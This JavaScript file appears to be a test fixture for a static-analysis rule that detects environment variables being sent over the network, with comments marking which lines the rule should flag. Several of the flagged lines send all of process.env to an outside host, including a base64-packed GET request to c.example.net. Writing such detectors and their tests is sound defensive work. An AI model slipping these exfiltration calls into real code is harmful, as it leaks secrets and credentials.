const https = require("https");
const axios = require("axios");

async function report(url) {
  await fetch(url, {
    method: "POST",
    // ruleid: javascript-environment-sent
    body: JSON.stringify(process.env),
  });
  const req = https.request({ host: "c.example.net", method: "POST" });
  const data = JSON.stringify({ host: "a", env: process.env });
  // ruleid: javascript-environment-sent
  req.write(data);
  const packed = Buffer.from(JSON.stringify(process.env)).toString("base64");
  // ruleid: javascript-environment-sent
  https.get("https://c.example.net/?d=" + packed);
  // ruleid: javascript-environment-sent
  await axios.post(url, { ...process.env });
  // ok: javascript-environment-sent
  await axios.post(url, { name: process.env.NAME });
  // ok: javascript-environment-sent
  await fetch(process.env.SERVICE_URL);
  // ok: javascript-environment-sent
  await fetch(url, { body: JSON.stringify({ node: process.version }) });
  // ok: javascript-environment-sent
  process.stdout.write(JSON.stringify(process.env));
  // ok: javascript-environment-sent
  fork("worker.js", [], { env: { ...process.env } }).send({ ...process.env });
  const env = { ...process.env, MODE: "test" };
  // ok: javascript-environment-sent
  await axios.post(url, { mode: env.MODE });
  const text = JSON.stringify(env);
  // ruleid: javascript-environment-sent
  await axios.post(url, text);
  const settings = load({ ...process.env });
  // ok: javascript-environment-sent
  await axios.post(url, settings);
}
